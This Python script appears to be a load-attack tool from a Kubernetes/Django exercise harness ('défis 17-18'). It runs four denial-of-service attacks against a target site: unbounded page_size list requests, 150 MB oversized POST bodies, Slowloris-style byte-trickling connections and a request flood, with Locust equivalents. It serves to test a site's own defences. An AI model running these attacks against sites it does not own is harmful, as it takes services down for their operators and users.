"""Attacks on a Django site (défis 17-18), from one client. Standard library only.

Four attacks, each a few threads looping until the end:
- lists:  unbounded lists, `GET /api/cars?page_size=1000000` and `/voitures/?page_size=...`: on a
          site without pagination caps, every row is loaded, serialised and held in memory at once;
- bodies: oversized request bodies (`POST /api/garages`, --body-mb MB of JSON) sent at full speed: a
          site without a body limit reads them whole into memory;
- slow:   slow clients: a POST whose declared body arrives one byte every --slow-interval seconds,
          holding a server thread (or the only one) for as long as the server lets it;
- flood:  as many requests as one client can send (`GET /api/stats`: one query each, no cache).

The paths are our garage site's by default; another site's are given with --list-path (its API list),
--page-path (a public page), --write-path (where the API takes writes) and --flood-path (an inexpensive
read), or the variables of the site contract (KUBEDEFIS_API_LIST, KUBEDEFIS_PUBLIC_PAGE,
KUBEDEFIS_API_WRITE "POST /path", KUBEDEFIS_API_PROBE): kubedefis/harness/load.py passes the target's.

Run from a pod of the cluster by the conformance tests (défis 17 and 18: kubedefis/harness/load.py,
`in_cluster`), so the attacker's address differs from the legitimate users' one; or by hand:

    python loadtests/attack.py --target http://127.0.0.1:8080 --host-header django.kubedefis.localhost \
        --duration 60 --lists 4 --bodies 2 --slow 24 --flood 8

    locust -f loadtests/attack.py --host http://127.0.0.1:8080     # the same attacks as Locust users
    (KUBEDEFIS_HOST_HEADER=django.kubedefis.localhost for the Ingress host)

The last line printed is `ATTACK-REPORT {json}`: per attack, how the site answered (status codes,
or the error a request ended with: timeout, reset, refused...). Only ever aim it at your own site.
"""

from __future__ import annotations

import argparse
import http.client
import json
import os
import socket
import sys
import threading
import time
import urllib.parse
from collections import Counter
from collections.abc import Callable
from typing import Any

CHUNK = b"A" * (1024 * 1024)
REQUEST_TIMEOUT = 30.0
# The site contract's paths (kubedefis.harness.target.SITE), ours unless the environment says.
LIST_PATH = os.environ.get("KUBEDEFIS_API_LIST") or "/api/cars"
PAGE_PATH = os.environ.get("KUBEDEFIS_PUBLIC_PAGE") or "/voitures/"
WRITE_PATH = (os.environ.get("KUBEDEFIS_API_WRITE") or "POST /api/garages").split()[-1]
FLOOD_PATH = os.environ.get("KUBEDEFIS_API_PROBE") or "/api/stats"


def with_query(path: str, query: str) -> str:
    return f"{path}{'&' if '?' in path else '?'}{query}"


class Target:
    def __init__(self, url: str, host_header: str | None) -> None:
        parsed = urllib.parse.urlsplit(url)
        self.host = parsed.hostname or "127.0.0.1"
        self.port = parsed.port or (443 if parsed.scheme == "https" else 80)
        self.host_header = host_header or parsed.netloc

    def connection(self, timeout: float = REQUEST_TIMEOUT) -> http.client.HTTPConnection:
        return http.client.HTTPConnection(self.host, self.port, timeout=timeout)

    def headers(self, **extra: str) -> dict[str, str]:
        return {"Host": self.host_header, "User-Agent": "kubedefis-attack", **extra}


def outcome_of(error: BaseException) -> str:
    if isinstance(error, TimeoutError | socket.timeout):
        return "timeout"
    if isinstance(error, ConnectionRefusedError):
        return "refused"
    if isinstance(error, ConnectionResetError | BrokenPipeError):
        return "reset"
    if isinstance(error, http.client.RemoteDisconnected):
        return "disconnected"
    return type(error).__name__


def get(target: Target, path: str, connection: http.client.HTTPConnection | None = None) -> tuple[str, int]:
    """One GET; returns (outcome, bytes read). Reads the whole answer, as a browser would."""
    own = connection is None
    conn = connection or target.connection()
    try:
        conn.request("GET", path, headers=target.headers(Accept="application/json, text/html"))
        response = conn.getresponse()
        size = len(response.read())
        return str(response.status), size
    finally:
        if own:
            conn.close()


def unbounded_list(target: Target, turn: int, lists: str = LIST_PATH, page: str = PAGE_PATH) -> str:
    return get(target, with_query(lists if turn % 2 == 0 else page, "page_size=1000000"))[0]


def oversized_body(target: Target, megabytes: int, path: str = WRITE_PATH) -> str:
    """POST a JSON body of `megabytes` MB at full speed; the answer (413 when refused early)."""
    body_size = megabytes * len(CHUNK)
    head, tail = b'{"make": "', b'"}'
    conn = target.connection()
    try:
        conn.putrequest("POST", path, skip_host=True)
        for name, value in target.headers(**{"Content-Type": "application/json"}).items():
            conn.putheader(name, value)
        conn.putheader("Content-Length", str(len(head) + body_size + len(tail)))
        conn.endheaders()
        try:
            conn.send(head)
            for _ in range(megabytes):
                conn.send(CHUNK)
            conn.send(tail)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server answered (413) and closed before the end: read its answer
        response = conn.getresponse()
        response.read()
        return str(response.status)
    finally:
        conn.close()


def slow_body(target: Target, interval: float, until: float, path: str = WRITE_PATH) -> str:
    """A POST whose body trickles in one byte per `interval` s; how the server ended it."""
    sock = socket.create_connection((target.host, target.port), timeout=REQUEST_TIMEOUT)
    try:
        head = [f"POST {path} HTTP/1.1"]
        head += [f"{k}: {v}" for k, v in target.headers(**{"Content-Type": "application/json"}).items()]
        head += ["Content-Length: 100000", "", ""]
        sock.sendall("\r\n".join(head).encode())
        sock.settimeout(interval)
        while time.monotonic() < until:
            try:
                answer = sock.recv(4096)  # the server answered (408, 429...) or closed
            except TimeoutError:
                sock.sendall(b" ")
                continue
            if not answer:
                return "closed"
            return answer.split(b" ", 2)[1].decode(errors="replace") if answer.startswith(b"HTTP/") else "garbage"
        return "held-until-end"
    finally:
        sock.close()


def flood(target: Target, state: dict[str, Any], path: str = FLOOD_PATH) -> str:
    """Requests back to back on one kept-alive connection (a new one after an error)."""
    conn = state.get("conn") or target.connection(timeout=10)
    state["conn"] = conn
    try:
        return get(target, path, conn)[0]
    except Exception:
        conn.close()
        state["conn"] = None
        raise


class Attack:
    """Threads looping on one attack until the end; outcomes counted."""

    def __init__(self, name: str, threads: int, step: Callable[[int, dict[str, Any]], str], until: float) -> None:
        self.name, self.threads, self.step, self.until = name, threads, step, until
        self.outcomes: Counter[str] = Counter()
        self.lock = threading.Lock()
        self.workers = [threading.Thread(target=self.loop, daemon=True) for _ in range(threads)]

    def loop(self) -> None:
        state: dict[str, Any] = {}
        turn = 0
        while time.monotonic() < self.until:
            try:
                outcome = self.step(turn, state)
            except Exception as error:
                outcome = outcome_of(error)
                time.sleep(0.2)  # the server is down or refusing: do not spin
            with self.lock:
                self.outcomes[outcome] += 1
            turn += 1

    def start(self) -> None:
        for worker in self.workers:
            worker.start()

    def join(self, timeout: float) -> None:
        for worker in self.workers:
            worker.join(max(0.0, timeout))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--target", required=True, help="base URL, e.g. http://127.0.0.1:8080")
    parser.add_argument("--host-header", default=os.environ.get("KUBEDEFIS_HOST_HEADER"), help="Host to send")
    parser.add_argument("--duration", type=float, default=60.0, help="seconds of attack")
    parser.add_argument("--lists", type=int, default=4, help="threads asking unbounded lists")
    parser.add_argument("--bodies", type=int, default=2, help="threads sending oversized bodies")
    parser.add_argument("--body-mb", type=int, default=150, help="size of each oversized body, MB")
    parser.add_argument("--slow", type=int, default=24, help="slow clients at once")
    parser.add_argument("--slow-interval", type=float, default=2.0, help="seconds between two bytes")
    parser.add_argument("--flood", type=int, default=8, help="threads flooding")
    parser.add_argument("--list-path", default=LIST_PATH, help="the API list asked unbounded")
    parser.add_argument("--page-path", default=PAGE_PATH, help="the public page asked unbounded")
    parser.add_argument("--write-path", default=WRITE_PATH, help="where the oversized and slow bodies go (POST)")
    parser.add_argument("--flood-path", default=FLOOD_PATH, help="the read flooded")
    args = parser.parse_args(argv)

    target = Target(args.target, args.host_header)
    start = time.monotonic()
    until = start + args.duration
    attacks = [
        Attack(
            "lists", args.lists, lambda turn, state: unbounded_list(target, turn, args.list_path, args.page_path), until
        ),
        Attack("bodies", args.bodies, lambda turn, state: oversized_body(target, args.body_mb, args.write_path), until),
        Attack(
            "slow", args.slow, lambda turn, state: slow_body(target, args.slow_interval, until, args.write_path), until
        ),
        Attack("flood", args.flood, lambda turn, state: flood(target, state, args.flood_path), until),
    ]
    for attack in attacks:
        if attack.threads:
            attack.start()
    while time.monotonic() < until:
        time.sleep(min(10.0, max(0.0, until - time.monotonic())))
        done = {a.name: dict(a.outcomes) for a in attacks if a.threads}
        print(f"{time.monotonic() - start:.0f}s {json.dumps(done)}", file=sys.stderr, flush=True)
    for attack in attacks:
        attack.join(REQUEST_TIMEOUT + 5 - (time.monotonic() - until))
    report = {
        "seconds": round(time.monotonic() - start, 1),
        "target": args.target,
        "attacks": {a.name: {"threads": a.threads, "outcomes": dict(a.outcomes)} for a in attacks if a.threads},
    }
    print("ATTACK-REPORT " + json.dumps(report), flush=True)
    return 0


# --- the same attacks as Locust users (by hand, with Locust's web UI) --------------------------------

try:
    from locust import User, constant, task
except ImportError:  # in a pod: the standard library only
    User = None  # type: ignore[assignment,misc]

if User is not None:

    class _Attacker(User):  # type: ignore[misc,valid-type]
        abstract = True
        wait_time = constant(0)

        def on_start(self) -> None:
            self.target = Target(self.host or "http://127.0.0.1:8080", os.environ.get("KUBEDEFIS_HOST_HEADER"))
            self.state: dict[str, Any] = {}
            self.turn = 0

        def attack(self, name: str, step: Callable[[], str]) -> None:
            started = time.monotonic()
            outcome, error = "", None
            try:
                outcome = step()
            except Exception as exc:
                outcome, error = outcome_of(exc), exc
                time.sleep(0.2)  # the server is down or refusing: do not spin (gevent-patched sleep)
            self.turn += 1
            self.environment.events.request.fire(
                request_type="ATTACK",
                name=f"{name} -> {outcome}",
                response_time=(time.monotonic() - started) * 1000,
                response_length=0,
                exception=error,
                context={},
            )

    class UnboundedLister(_Attacker):
        @task
        def lists(self) -> None:
            self.attack("lists", lambda: unbounded_list(self.target, self.turn))

    class BodyBomber(_Attacker):
        @task
        def bodies(self) -> None:
            self.attack("bodies", lambda: oversized_body(self.target, 150))

    class SlowClient(_Attacker):
        @task
        def slow(self) -> None:
            self.attack("slow", lambda: slow_body(self.target, 2.0, time.monotonic() + 60))

    class Flooder(_Attacker):
        @task
        def flood(self) -> None:
            self.attack("flood", lambda: flood(self.target, self.state))


if __name__ == "__main__":
    sys.exit(main())
